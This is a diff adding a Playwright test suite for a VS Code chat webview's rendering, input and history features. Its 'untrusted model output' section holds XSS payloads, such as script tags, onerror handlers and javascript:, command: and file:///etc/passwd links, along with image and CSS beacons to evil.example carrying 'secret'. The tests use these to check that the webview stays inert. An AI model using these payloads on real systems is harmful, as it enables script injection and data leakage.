@@ -1,0 +1,560 @@
+// The chat webview in headless Chromium: the real bundle, the host's CSP, a stand-in acquireVsCodeApi.
+import * as assert from 'node:assert/strict';
+import { resolve } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { chromium, type Browser, type Page } from 'playwright-core';
+import type { HostMessage, TurnView, WebviewMessage } from '../../src/shared/protocol';
+import type { Harness } from '../webview-harness/harness.mjs';
+
+declare global {
+  interface Window {
+    __posted: WebviewMessage[];
+    __violations: { directive: string; blocked: string; sample: string }[];
+    __host(msg: HostMessage): void;
+    __state: unknown;
+    __pwned?: unknown;
+    __kept?: Element | null;
+    __mutations?: number;
+  }
+}
+
+// Built to out/test/unit; the harness and the webview build script are loaded at run time, not bundled.
+const root = resolve(__dirname, '../../..');
+const WAIT = { timeout: 5000 };
+
+const header = { model: 'gpt-4o-mini', endpoint: 'api.openai.com', demo: false, models: [] as string[] };
+
+function snapshot(turns: TurnView[] = [], extra: Partial<Extract<HostMessage, { type: 'snapshot' }>> = {}): HostMessage {
+  return { type: 'snapshot', conversation: { id: 'c1', title: 'Test', turns }, generating: false, header, pendingContext: [], ...extra };
+}
+
+const user = (id: string, text: string): TurnView => ({ id, role: 'user', text, status: 'done' });
+const reply = (id: string, text: string, status: TurnView['status'] = 'done'): TurnView => ({ id, role: 'assistant', text, status });
+
+/** Splits text into pieces of `size` characters: mid-word, mid-fence, mid-line. */
+function chunks(text: string, size: number): string[] {
+  const out: string[] = [];
+  for (let i = 0; i < text.length; i += size) out.push(text.slice(i, i + size));
+  return out;
+}
+
+describe('chat webview (Chromium)', function () {
+  this.timeout(60000);
+  let browser: Browser;
+  let harness: Harness;
+  let page: Page;
+  /** Every URL the page asked for. */
+  let requests: string[];
+
+  before(async () => {
+    const { buildWebview } = (await import(pathToFileURL(resolve(root, 'test/webview-harness/build.mjs')).href)) as typeof import('../webview-harness/build.mjs');
+    const { startHarness, CHROMIUM } = (await import(pathToFileURL(resolve(root, 'test/webview-harness/harness.mjs')).href)) as typeof import('../webview-harness/harness.mjs');
+    await buildWebview();
+    harness = await startHarness();
+    browser = await chromium.launch({ executablePath: CHROMIUM.executablePath, args: CHROMIUM.args });
+  });
+
+  after(async () => {
+    await browser?.close();
+    await harness?.close();
+  });
+
+  beforeEach(async () => {
+    page = await browser.newPage({ viewport: { width: 420, height: 700 } });
+    requests = [];
+    page.on('request', (r) => requests.push(r.url()));
+    page.on('pageerror', (e) => { throw e; });
+    await page.goto(harness.url);
+    await page.waitForFunction(() => window.__posted.some((m) => m.type === 'ready'), undefined, WAIT);
+  });
+
+  afterEach(async () => {
+    await page.close();
+  });
+
+  async function host(...messages: HostMessage[]): Promise<void> {
+    await page.evaluate((ms) => { for (const m of ms) window.__host(m); }, messages);
+  }
+
+  async function posted(): Promise<WebviewMessage[]> {
+    return page.evaluate(() => window.__posted);
+  }
+
+  /** Waits until a message matching `pred` was posted, and returns it. */
+  async function waitPosted<T extends WebviewMessage['type']>(type: T): Promise<Extract<WebviewMessage, { type: T }>> {
+    await page.waitForFunction((t) => window.__posted.some((m) => m.type === t), type, WAIT);
+    return (await posted()).filter((m) => m.type === type).pop() as Extract<WebviewMessage, { type: T }>;
+  }
+
+  /** Two animation frames: whatever was scheduled has been rendered. */
+  async function frames(): Promise<void> {
+    await page.evaluate(() => new Promise<void>((ok) => requestAnimationFrame(() => requestAnimationFrame(() => ok()))));
+  }
+
+  async function clearPosted(): Promise<void> {
+    await page.evaluate(() => { window.__posted.length = 0; });
+  }
+
+  const REPLY = [
+    '# Plan',
+    '',
+    'First we write a **helper** function that does the work. Then we call it.',
+    '',
+    '```typescript',
+    'export function greet(name: string): string {',
+    '  return `Hello, ${name}`;',
+    '}',
+    '```',
+    '',
+    'See [the docs](https://example.com/docs) for more.',
+    '',
+    '- one',
+    '- two',
+    '',
+  ].join('\n');
+
+  it('renders a streamed reply incrementally and never re-renders a complete block', async () => {
+    await host(snapshot([user('u1', 'Write greet')], { generating: true }));
+    await host({ type: 'turnStart', turn: reply('a1', '', 'streaming') });
+    const pieces = chunks(REPLY, 7);
+    const fenceOpenAt = REPLY.indexOf('export function');
+    let sent = 0;
+    let sawOpenFence = false;
+    for (const piece of pieces) {
+      await host({ type: 'delta', turnId: 'a1', text: piece });
+      sent += piece.length;
+      if (!sawOpenFence && sent > fenceOpenAt + 20) {
+        // Mid-fence: the unclosed fence already shows as a code block in the open (trailing) block.
+        await page.waitForSelector('article[aria-label="Parley"] .blk.open .code-block code', WAIT);
+        sawOpenFence = true;
+        const keptHeading = await page.evaluate(() => {
+          const h1 = document.querySelector('article[aria-label="Parley"] .blk:not(.open) h1');
+          window.__kept = h1?.parentElement ?? null;
+          window.__mutations = 0;
+          if (window.__kept) {
+            new MutationObserver((records) => { window.__mutations! += records.length; })
+              .observe(window.__kept, { subtree: true, childList: true, characterData: true, attributes: true });
+          }
+          return h1?.textContent;
+        });
+        assert.equal(keptHeading, 'Plan', 'the heading block is complete and rendered on its own');
+      }
+      if (pieces.indexOf(piece) % 4 === 0) await frames();
+    }
+    assert.ok(sawOpenFence);
+    await host({ type: 'turnEnd', turn: { ...reply('a1', REPLY, 'done'), usage: { prompt: 12, completion: 1222, total: 1234, estimated: false } } });
+    await host({ type: 'generating', value: false });
+    await page.waitForSelector('article[aria-label="Parley"] .usage', WAIT);
+
+    const result = await page.evaluate(() => {
+      const article = document.querySelector('article[aria-label="Parley"]')!;
+      const h1 = article.querySelector('.md h1');
+      const block = article.querySelector('.code-block')!;
+      return {
+        sameNode: h1?.parentElement === window.__kept && !!window.__kept?.isConnected,
+        mutations: window.__mutations,
+        blocks: article.querySelectorAll('.md > .blk').length,
+        openBlocks: article.querySelectorAll('.md > .blk.open').length,
+        codeText: block.querySelector('code')!.textContent,
+        keywords: block.querySelectorAll('code .hljs-keyword').length,
+        lang: block.querySelector('.code-lang')!.textContent,
+        buttons: [...block.querySelectorAll('button')].map((b) => b.getAttribute('aria-label')),
+        link: article.querySelector('.md a')?.getAttribute('href'),
+        items: [...article.querySelectorAll('.md li')].map((li) => li.textContent),
+        usage: article.querySelector('.usage')!.textContent,
+        regenerate: [...article.querySelectorAll('button')].some((b) => b.textContent === 'Regenerate'),
+      };
+    });
+    assert.equal(result.sameNode, true, 'the complete heading block is the very node rendered mid-stream');
+    assert.equal(result.mutations, 0, 'a complete block is never touched again');
+    assert.ok(result.blocks >= 4, `one element per top-level block (got ${result.blocks})`);
+    assert.equal(result.openBlocks, 0);
+    assert.equal(result.codeText, 'export function greet(name: string): string {\n  return `Hello, ${name}`;\n}\n');
+    assert.ok(result.keywords >= 2, 'code is highlighted');
+    assert.equal(result.lang, 'typescript');
+    assert.deepEqual(result.buttons, ['Copy code', 'Insert at Cursor', 'Open in New Editor']);
+    assert.equal(result.link, 'https://example.com/docs');
+    assert.deepEqual(result.items, ['one', 'two']);
+    assert.equal(result.usage, '1,234 tokens');
+    assert.equal(result.regenerate, true);
+  });
+
+  it('announces streamed text in sentences, not tokens', async () => {
+    await host(snapshot([user('u1', 'hi')], { generating: true }), { type: 'turnStart', turn: reply('a1', '', 'streaming') });
+    for (const piece of chunks('The first sentence is here. The second one follows', 3)) {
+      await host({ type: 'delta', turnId: 'a1', text: piece });
+    }
+    await page.waitForFunction(() => document.querySelector('[aria-live="polite"]')?.textContent?.includes('The first sentence is here.'), undefined, WAIT);
+    const spoken = await page.evaluate(() => [...document.querySelectorAll('[aria-live="polite"] p')].map((p) => p.textContent));
+    assert.deepEqual(spoken, ['The first sentence is here.'], 'the unfinished sentence is not spoken yet');
+    await host({ type: 'turnEnd', turn: reply('a1', 'The first sentence is here. The second one follows', 'done') });
+    await page.waitForFunction(() => document.querySelector('[aria-live="polite"]')?.textContent?.includes('The second one follows'), undefined, WAIT);
+  });
+
+  it('sends with Enter, adds a newline with Shift+Enter, and keeps the draft in state', async () => {
+    await host(snapshot());
+    const input = page.getByLabel('Message Parley');
+    await input.click();
+    await page.keyboard.type('line one');
+    await page.keyboard.press('Shift+Enter');
+    await page.keyboard.type('line two');
+    assert.equal(await input.inputValue(), 'line one\nline two');
+    assert.deepEqual(await page.evaluate(() => window.__state), { draft: 'line one\nline two' });
+    assert.equal((await posted()).some((m) => m.type === 'send'), false);
+    await page.keyboard.press('Enter');
+    const send = await waitPosted('send');
+    assert.deepEqual(send, { type: 'send', text: 'line one\nline two', images: [] });
+    assert.equal(await input.inputValue(), '');
+  });
+
+  it('turns Send into Stop while generating; Stop and Escape post cancel', async () => {
+    await host(snapshot());
+    await page.getByRole('button', { name: 'Send', exact: true }).waitFor(WAIT);
+    await host({ type: 'generating', value: true });
+    const stop = page.getByRole('button', { name: 'Stop', exact: true });
+    await stop.waitFor(WAIT);
+    assert.equal(await page.getByRole('button', { name: 'Send', exact: true }).count(), 0);
+    await clearPosted();
+    await stop.click();
+    await waitPosted('cancel');
+    await clearPosted();
+    await page.keyboard.press('Escape');
+    await waitPosted('cancel');
+    // Enter while generating sends nothing.
+    await page.getByLabel('Message Parley').fill('queued?');
+    await page.getByLabel('Message Parley').press('Enter');
+    await frames();
+    assert.equal((await posted()).some((m) => m.type === 'send'), false);
+    await host({ type: 'generating', value: false });
+    await page.getByRole('button', { name: 'Send', exact: true }).waitFor(WAIT);
+  });
+
+  it('code-block buttons post copy, insertCode and openCode with the block\'s code and language', async () => {
+    await host(snapshot([user('u1', 'code'), reply('a1', '```python\nprint("hi")\n```\n')]));
+    await page.getByRole('button', { name: 'Insert at Cursor' }).click();
+    assert.deepEqual(await waitPosted('insertCode'), { type: 'insertCode', code: 'print("hi")\n' });
+    await page.getByRole('button', { name: 'Open in New Editor' }).click();
+    assert.deepEqual(await waitPosted('openCode'), { type: 'openCode', code: 'print("hi")\n', language: 'python' });
+    await page.getByRole('button', { name: 'Copy code' }).click();
+    assert.deepEqual(await waitPosted('copy'), { type: 'copy', text: 'print("hi")\n' });
+    // Keyboard reachable: focus the Insert button and press Enter.
+    await clearPosted();
+    await page.getByRole('button', { name: 'Insert at Cursor' }).focus();
+    await page.keyboard.press('Enter');
+    await waitPosted('insertCode');
+  });
+
+  it('links post openLink and never navigate', async () => {
+    await host(snapshot([user('u1', 'link'), reply('a1', 'Go to [example](https://example.com/x?q=1) or https://linkified.example/path now.')]));
+    const before = page.url();
+    await page.getByRole('link', { name: 'example', exact: true }).click();
+    assert.deepEqual(await waitPosted('openLink'), { type: 'openLink', url: 'https://example.com/x?q=1' });
+    await clearPosted();
+    await page.getByRole('link', { name: 'https://linkified.example/path' }).click({ button: 'middle' });
+    await waitPosted('openLink');
+    await frames();
+    assert.equal(page.url(), before);
+    assert.deepEqual(requests.filter((u) => !u.startsWith(harness.origin)), []);
+  });
+
+  it('per-turn actions: Copy, Regenerate, Edit, Continue, error actions', async () => {
+    const truncated: TurnView = {
+      ...reply('a1', 'Partial answer', 'truncated'),
+      usage: { prompt: 5, completion: 1229, total: 1234, estimated: true },
+    };
+    await host(snapshot([user('u1', 'Question'), truncated]));
+    await page.getByText('Truncated', { exact: true }).waitFor(WAIT);
+    assert.equal(await page.locator('article[aria-label="Parley"] .usage').textContent(), '≈ 1,234 tokens (estimated)');
+    await page.getByRole('button', { name: 'Continue' }).click();
+    await waitPosted('continue');
+    await page.getByRole('button', { name: 'Regenerate reply' }).click();
+    await waitPosted('regenerate');
+    await page.getByRole('button', { name: 'Edit and resend' }).click();
+    await waitPosted('editLast');
+    await page.getByRole('button', { name: 'Copy reply' }).click();
+    assert.deepEqual(await waitPosted('copy'), { type: 'copy', text: 'Partial answer' });
+    await host({ type: 'composerText', text: 'Question' });
+    await page.waitForFunction(() => (document.querySelector('textarea') as HTMLTextAreaElement).value === 'Question', undefined, WAIT);
+
+    const failed: TurnView = {
+      ...reply('a2', 'Text before the error.', 'error'),
+      error: { kind: 'auth', title: 'The server rejected the API key', detail: '401: Incorrect API key sk-****', hint: 'Keys are bound to api.openai.com', actions: ['setApiKey', 'retry'] },
+    };
+    await host({ type: 'turnStart', turn: user('u2', 'Again') }, { type: 'turnStart', turn: reply('a2', '', 'streaming') },
+      { type: 'delta', turnId: 'a2', text: 'Text before the error.' }, { type: 'turnEnd', turn: failed });
+    const card = page.locator('article[aria-label="Parley"] .error-card').last();
+    await card.waitFor(WAIT);
+    assert.equal(await card.locator('.error-title').textContent(), 'The server rejected the API key');
+    const textAbove = await page.evaluate(() => {
+      const article = [...document.querySelectorAll('article[aria-label="Parley"]')].pop()!;
+      const md = article.querySelector('.md')!;
+      const cardEl = article.querySelector('.error-card')!;
+      return { text: md.textContent!.trim(), above: !!(md.compareDocumentPosition(cardEl) & Node.DOCUMENT_POSITION_FOLLOWING) };
+    });
+    assert.deepEqual(textAbove, { text: 'Text before the error.', above: true });
+    await card.getByRole('button', { name: 'Set API Key' }).click();
+    assert.deepEqual(await waitPosted('action'), { type: 'action', action: 'setApiKey' });
+    await card.getByRole('button', { name: 'Retry' }).click();
+    await page.waitForFunction(() => window.__posted.some((m) => m.type === 'action' && m.action === 'retry'), undefined, WAIT);
+    // Regenerate and Edit moved to the new last turns: one of each in the whole transcript.
+    assert.equal(await page.getByRole('button', { name: 'Regenerate reply' }).count(), 1);
+    assert.equal(await page.getByRole('button', { name: 'Edit and resend' }).count(), 1);
+  });
+
+  it('shows reasoning in a collapsed Thinking block, separate from the answer', async () => {
+    await host(snapshot([user('u1', 'think')], { generating: true }),
+      { type: 'turnStart', turn: { ...reply('a1', '', 'streaming'), reasoningStartedAt: Date.now() - 2000 } },
+      { type: 'delta', turnId: 'a1', reasoning: 'Consider the options.' });
+    const details = page.locator('details.thinking');
+    await details.waitFor(WAIT);
+    assert.equal(await details.evaluate((d) => (d as HTMLDetailsElement).open), false);
+    assert.match((await details.locator('summary').textContent())!, /^Thinking… \d+ s$/);
+    await host({ type: 'delta', turnId: 'a1', text: 'The answer.' },
+      { type: 'turnEnd', turn: { ...reply('a1', 'The answer.', 'done'), reasoning: 'Consider the options.', reasoningMs: 4200 } });
+    await page.waitForFunction(() => document.querySelector('details.thinking summary')?.textContent === 'Thinking (4 s)', undefined, WAIT);
+    assert.equal(await page.locator('article[aria-label="Parley"] .md').textContent(), 'The answer.\n');
+    assert.equal(await page.locator('.reasoning').textContent(), 'Consider the options.');
+  });
+
+  it('setup card, header and history post their messages', async () => {
+    await host(snapshot([], {
+      header: { model: 'llama3', endpoint: '127.0.0.1:11434', demo: true, models: ['llama3', 'qwen2.5'] },
+      setup: {
+        reason: 'No API key for https://api.openai.com', origin: 'https://api.openai.com', actions: ['setApiKey', 'markNoKey', 'testConnection'],
+        presets: [
+          { id: 'openai', label: 'OpenAI', baseUrl: 'https://api.openai.com', model: 'gpt-4o-mini', needsKey: true },
+          { id: 'ollama', label: 'Ollama (local)', baseUrl: 'http://localhost:11434', model: 'llama3', needsKey: false },
+        ],
+      },
+    }));
+    await page.getByText('No API key for https://api.openai.com').waitFor(WAIT);
+    await page.getByRole('button', { name: /^Ollama/ }).click();
+    assert.deepEqual(await waitPosted('applyPreset'), { type: 'applyPreset', id: 'ollama' });
+    await page.getByRole('button', { name: 'Set API Key' }).click();
+    assert.deepEqual(await waitPosted('action'), { type: 'action', action: 'setApiKey' });
+    await page.getByRole('button', { name: 'Test Connection' }).click();
+    await page.waitForFunction(() => window.__posted.some((m) => m.type === 'action' && m.action === 'testConnection'), undefined, WAIT);
+    assert.equal(await page.getByText('Demo endpoint').count(), 1);
+    await page.getByLabel('Model').selectOption('qwen2.5');
+    assert.deepEqual(await waitPosted('setModel'), { type: 'setModel', model: 'qwen2.5' });
+    await host({ type: 'header', header: { ...header, models: [] } });
+    await page.getByRole('button', { name: /^Model: gpt-4o-mini/ }).click();
+    await waitPosted('pickModel');
+    await host({ type: 'setup' });
+    await page.getByText('No API key').waitFor({ state: 'detached', ...WAIT });
+
+    await page.getByRole('button', { name: 'New chat' }).click();
+    await waitPosted('newChat');
+    await page.getByRole('button', { name: 'History' }).click();
+    await waitPosted('requestHistory');
+    await host({ type: 'history', items: [{ id: 'h1', title: 'First chat', updatedAt: Date.now(), turnCount: 4 }, { id: 'h2', title: 'Second', updatedAt: Date.now(), turnCount: 2 }] });
+    await page.getByRole('button', { name: 'Delete Second' }).click();
+    assert.deepEqual(await waitPosted('deleteConversation'), { type: 'deleteConversation', id: 'h2' });
+    await page.getByRole('button', { name: 'Clear all…' }).click();
+    assert.equal((await posted()).some((m) => m.type === 'clearHistory'), false, 'clearing asks first');
+    await page.getByRole('button', { name: 'Delete all' }).click();
+    await waitPosted('clearHistory');
+    await page.locator('.history-open', { hasText: 'First chat' }).click();
+    assert.deepEqual(await waitPosted('openConversation'), { type: 'openConversation', id: 'h1' });
+    assert.equal(await page.locator('.history').isVisible(), false);
+  });
+
+  it('context chips have remove buttons; the attach button asks the host for a file', async () => {
+    await host(snapshot(), { type: 'pendingContext', chips: [{ id: 'ctx1', path: 'src/app.ts', startLine: 10, endLine: 24, language: 'typescript', truncated: false }] });
+    await page.getByText('src/app.ts:10–24').waitFor(WAIT);
+    await page.getByRole('button', { name: 'Remove src/app.ts:10–24' }).click();
+    assert.deepEqual(await waitPosted('removeContext'), { type: 'removeContext', id: 'ctx1' });
+    await page.getByRole('button', { name: 'Attach image' }).click();
+    await waitPosted('pickImage');
+    await host({ type: 'imageAttached', image: { name: 'dot.png', dataUrl: TINY_PNG } });
+    await page.locator('.composer img.thumb').waitFor(WAIT);
+    await page.getByLabel('Message Parley').fill('look');
+    await page.getByLabel('Message Parley').press('Enter');
+    assert.deepEqual(await waitPosted('send'), { type: 'send', text: 'look', images: [{ name: 'dot.png', dataUrl: TINY_PNG }] });
+    assert.equal(await page.locator('.composer img.thumb').count(), 0);
+  });
+
+  it('refuses pasted or dropped files of the wrong type or size, and accepts a PNG', async () => {
+    await host(snapshot());
+    async function deliver(kind: 'paste' | 'drop', file: { name: string; type: string; size: number; png?: boolean }): Promise<void> {
+      await page.evaluate(({ kind, file, png }) => {
+        const bytes = file.png ? Uint8Array.from(atob(png.split(',')[1]), (c) => c.charCodeAt(0)) : new Uint8Array(file.size);
+        const dt = new DataTransfer();
+        dt.items.add(new File([bytes], file.name, { type: file.type }));
+        const target = document.querySelector('textarea')!;
+        target.dispatchEvent(kind === 'paste'
+          ? new ClipboardEvent('paste', { clipboardData: dt, bubbles: true, cancelable: true })
+          : new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }));
+      }, { kind, file, png: TINY_PNG });
+    }
+    const error = page.locator('.composer-error');
+    await deliver('paste', { name: 'notes.pdf', type: 'application/pdf', size: 1000 });
+    await page.waitForFunction(() => !!document.querySelector('.composer-error')?.textContent, undefined, WAIT);
+    assert.match((await error.textContent())!, /notes\.pdf is not a PNG, JPEG, GIF or WebP image/);
+    await deliver('drop', { name: 'huge.png', type: 'image/png', size: 5 * 1024 * 1024 + 1 });
+    await page.waitForFunction(() => document.querySelector('.composer-error')?.textContent?.includes('huge.png'), undefined, WAIT);
+    assert.match((await error.textContent())!, /huge\.png is 5\.0 MB; the limit is 5 MB/);
+    await deliver('drop', { name: 'anim.svg', type: 'image/svg+xml', size: 100 });
+    await page.waitForFunction(() => document.querySelector('.composer-error')?.textContent?.includes('anim.svg'), undefined, WAIT);
+    assert.equal(await page.locator('.composer .thumb').count(), 0, 'nothing was attached');
+    // The same path accepts a real PNG, so the refusals above are about type and size.
+    await deliver('paste', { name: 'dot.png', type: 'image/png', size: 0, png: true });
+    await page.locator('.composer img.thumb').waitFor(WAIT);
+    assert.equal(await page.locator('.composer img.thumb').count(), 1);
+  });
+
+  it('renders only a window of a 200-message conversation, and the first turns when scrolled to the top', async () => {
+    const turns: TurnView[] = [];
+    for (let i = 0; i < 100; i++) {
+      turns.push(user(`u${i}`, `Question number ${i}?`));
+      turns.push(reply(`a${i}`, `Answer **${i}**.\n\n\`\`\`js\nconsole.log(${i});\n\`\`\`\n\nMore text for answer ${i}.`));
+    }
+    await host(snapshot(turns));
+    await page.waitForFunction(() => document.querySelectorAll('article').length === 200, undefined, WAIT);
+    await page.locator('article[aria-label="Parley"]').last().locator('.md').waitFor(WAIT);
+    await frames();
+    const rendered = await page.evaluate(() => document.querySelectorAll('article .turn-body:not(.placeholder)').length);
+    assert.ok(rendered > 0 && rendered < 200, `only some turns rendered (got ${rendered})`);
+    assert.equal(await page.locator('article').first().locator('.turn-body.placeholder').count(), 1);
+    await page.evaluate(() => { document.querySelector('.scroller')!.scrollTop = 0; });
+    await page.waitForFunction(() => document.querySelector('article .turn-body:not(.placeholder) .user-text')?.textContent === 'Question number 0?', undefined, WAIT);
+    const after = await page.evaluate(() => document.querySelectorAll('article .turn-body:not(.placeholder)').length);
+    assert.ok(after < 200, `still a window after scrolling (got ${after})`);
+  });
+
+  it('auto-scrolls only at the bottom; Jump to latest brings it back', async () => {
+    const turns: TurnView[] = [];
+    for (let i = 0; i < 10; i++) turns.push(user(`u${i}`, `Q${i}`), reply(`a${i}`, `Line\n\n`.repeat(10)));
+    await host(snapshot(turns, { generating: true }), { type: 'turnStart', turn: reply('s', '', 'streaming') });
+    const atBottom = () => page.evaluate(() => { const s = document.querySelector('.scroller')!; return s.scrollHeight - s.scrollTop - s.clientHeight <= 8; });
+    await host({ type: 'delta', turnId: 's', text: 'Streaming paragraph.\n\n'.repeat(5) });
+    await page.waitForFunction(() => { const s = document.querySelector('.scroller')!; return s.scrollHeight - s.scrollTop - s.clientHeight <= 8 && document.querySelectorAll('article:last-child .md p').length >= 5; }, undefined, WAIT);
+    await page.mouse.move(200, 300);
+    await page.mouse.wheel(0, -600);
+    const jump = page.getByRole('button', { name: 'Jump to latest' });
+    await jump.waitFor({ state: 'visible', ...WAIT });
+    await host({ type: 'delta', turnId: 's', text: 'More text.\n\n'.repeat(10) });
+    await page.waitForFunction(() => document.querySelectorAll('article:last-child .md p').length >= 15, undefined, WAIT);
+    await frames();
+    assert.equal(await atBottom(), false, 'no auto-scroll after scrolling up');
+    await jump.click();
+    await page.waitForFunction(() => { const s = document.querySelector('.scroller')!; return s.scrollHeight - s.scrollTop - s.clientHeight <= 8; }, undefined, WAIT);
+    await jump.waitFor({ state: 'hidden', ...WAIT });
+    await host({ type: 'delta', turnId: 's', text: 'Even more.\n\n'.repeat(10) });
+    await page.waitForFunction(() => document.querySelectorAll('article:last-child .md p').length >= 25, undefined, WAIT);
+    await frames();
+    assert.equal(await atBottom(), true, 'auto-scroll resumed');
+  });
+
+  describe('untrusted model output', () => {
+    const FLAG = 'window.__pwned=1';
+    const CORPUS = [
+      `<script>${FLAG}</script>`,
+      `<img src=x onerror="${FLAG}">`,
+      `<svg onload="${FLAG}"><circle r="1"/></svg>`,
+      `<iframe src="javascript:${FLAG}"></iframe>`,
+      `<iframe srcdoc="<script>parent.${FLAG}</script>"></iframe>`,
+      `[click me](javascript:${FLAG})`,
+      `[quit](command:workbench.action.quit)`,
+      `[settings](vscode://settings/foo) and [file](file:///etc/passwd) and [data](data:text/html,<script>${FLAG}</script>)`,
+      `<javascript:${FLAG}> and <command:workbench.action.quit>`,
+      `![leak](https://evil.example/leak?d=secret)`,
+      `![ref leak][r1] and ![also][r2]`,
+      ``,
+      `[r1]: https://evil.example/ref?d=secret`,
+      `[r2]: //evil.example/protocol-relative`,
+      ``,
+      `![inline](data:image/png;base64,${'A'.repeat(40)})`,
+      `<div style="background:url(https://evil.example/css)">styled</div>`,
+      `<style>body{background:url(https://evil.example/css2)}</style>`,
+      `<a href="https://evil.example/a" onclick="${FLAG}">raw anchor</a>`,
+      `<form action="https://evil.example/f"><input name=x autofocus onfocus="${FLAG}"></form>`,
+      `<math><mtext><table><mglyph><style><img src=x onerror="${FLAG}">`,
+      `| a | b |\n|:-:|--:|\n| ![t](https://evil.example/table) | x |`,
+      `${'x'.repeat(100 * 1024)}`,
+      '```js\nconst unclosed = "fence";\n',
+    ].join('\n\n');
+    // markdown-it stops parsing at its nesting limit and drops the rest, so this one goes in its own reply.
+    const DEEP = `${Array.from({ length: 500 }, (_, i) => `${'  '.repeat(i)}- level ${i} <img src=x onerror="${FLAG}">`).join('\n')}\n`;
+
+    async function assertSafe(): Promise<void> {
+      // Responsive: a trivial script runs promptly after rendering.
+      const alive = await Promise.race([
+        page.evaluate(() => 1 + 1),
+        new Promise<'hung'>((ok) => setTimeout(() => ok('hung'), 10000)),
+      ]);
+      assert.equal(alive, 2, 'the page stays responsive');
+      await frames();
+      const state = await page.evaluate(() => {
+        const mds = [...document.querySelectorAll('.md')];
+        const q = (sel: string) => mds.reduce((n, md) => n + md.querySelectorAll(sel).length, 0);
+        return {
+          pwned: window.__pwned,
+          violations: window.__violations,
+          imgs: q('img'), iframes: q('iframe'), svgs: q('svg'), styles: q('style'), forms: q('form, input'), scripts: document.scripts.length,
+          styled: q('[style]'),
+          handlers: mds.reduce((n, md) => n + [...md.querySelectorAll('*')].filter((el) => [...el.attributes].some((a) => a.name.startsWith('on'))).length, 0),
+          hrefs: mds.flatMap((md) => [...md.querySelectorAll('[href]')].map((a) => a.getAttribute('href'))),
+          text: mds.map((md) => md.textContent).join('\n'),
+        };
+      });
+      assert.equal(state.pwned, undefined, 'no payload executed');
+      assert.deepEqual(state.violations, [], 'no CSP violation: nothing even tried to load');
+      assert.deepEqual(requests.filter((u) => !u.startsWith(harness.origin)), [], 'no request left the page');
+      assert.deepEqual({ imgs: state.imgs, iframes: state.iframes, svgs: state.svgs, styles: state.styles, forms: state.forms, styled: state.styled, handlers: state.handlers },
+        { imgs: 0, iframes: 0, svgs: 0, styles: 0, forms: 0, styled: 0, handlers: 0 });
+      assert.equal(state.scripts, 2, 'only the harness scripts');
+      for (const href of state.hrefs) assert.match(href!, /^https?:\/\//, `only http(s) anchors (got ${href})`);
+      assert.ok(state.hrefs.includes('https://evil.example/leak?d=secret'), 'a remote image becomes a link');
+      assert.ok(state.hrefs.includes('https://evil.example/ref?d=secret'), 'a reference-style remote image becomes a link');
+      assert.ok(!state.hrefs.some((h) => /^(javascript|command|vscode|file|data):/i.test(h!)));
+      assert.match(state.text, /Image: leak/);
+      assert.match(state.text, /Image: inline/, 'a data: image shows its alt text');
+      assert.match(state.text, /click me/, 'an unsafe link keeps its text');
+      assert.match(state.text, /<script>window.__pwned=1<\/script>/, 'raw HTML shows as text');
+      assert.match(state.text, /const unclosed = "fence";/);
+      // Clicking every anchor only ever asks the host, and only for http(s) URLs.
+      await page.evaluate(() => { window.__posted.length = 0; for (const a of document.querySelectorAll<HTMLElement>('.md a')) a.click(); });
+      const links = (await posted()).filter((m) => m.type === 'openLink').map((m) => (m as { url: string }).url);
+      assert.ok(links.length > 0);
+      for (const url of links) assert.match(url, /^https?:\/\//);
+      assert.equal(page.url(), harness.url);
+      assert.equal(await page.evaluate(() => window.__pwned), undefined);
+    }
+
+    it('is inert when streamed token by token', async () => {
+      await host(snapshot([user('u1', 'corpus')], { generating: true }), { type: 'turnStart', turn: reply('a1', '', 'streaming') });
+      // Big pieces keep the test short; they still split payloads mid-tag and mid-line.
+      const pieces = chunks(CORPUS, 997);
+      for (let i = 0; i < pieces.length; i += 20) {
+        await page.evaluate((ps) => { for (const text of ps) window.__host({ type: 'delta', turnId: 'a1', text }); }, pieces.slice(i, i + 20));
+        await frames();
+      }
+      await page.waitForFunction(() => document.querySelector('.md')?.textContent?.includes('const unclosed'), undefined, { timeout: 20000 });
+      await assertSafe();
+      await host({ type: 'turnEnd', turn: reply('a1', CORPUS, 'incomplete') });
+      await page.getByText('Incomplete', { exact: true }).waitFor(WAIT);
+      await assertSafe();
+      await host({ type: 'turnStart', turn: user('u2', 'deep') }, { type: 'turnStart', turn: reply('a2', '', 'streaming') });
+      const deepPieces = chunks(DEEP, 1009);
+      for (let i = 0; i < deepPieces.length; i += 20) {
+        await page.evaluate((ps) => { for (const text of ps) window.__host({ type: 'delta', turnId: 'a2', text }); }, deepPieces.slice(i, i + 20));
+        await frames();
+      }
+      await page.waitForFunction(() => document.querySelector('article:last-child .md li li li li li'), undefined, { timeout: 20000 });
+      await host({ type: 'turnEnd', turn: reply('a2', DEEP, 'done') });
+      await assertSafe();
+    });
+
+    it('is inert when rendered from a snapshot, in user turns too', async () => {
+      await host(snapshot([user('u1', CORPUS.slice(0, 3000)), reply('a1', CORPUS), user('u2', 'deep'), reply('a2', DEEP)]));
+      await page.waitForFunction(() => document.querySelector('.md')?.textContent?.includes('const unclosed'), undefined, { timeout: 20000 });
+      await page.waitForFunction(() => document.querySelector('article:last-child .md li li li li li'), undefined, { timeout: 20000 });
+      await assertSafe();
+      assert.match((await page.locator('.user-text').first().textContent())!, /<script>/);
+    });
+  });
+});
+
+/** A 1x1 PNG. */
+const TINY_PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
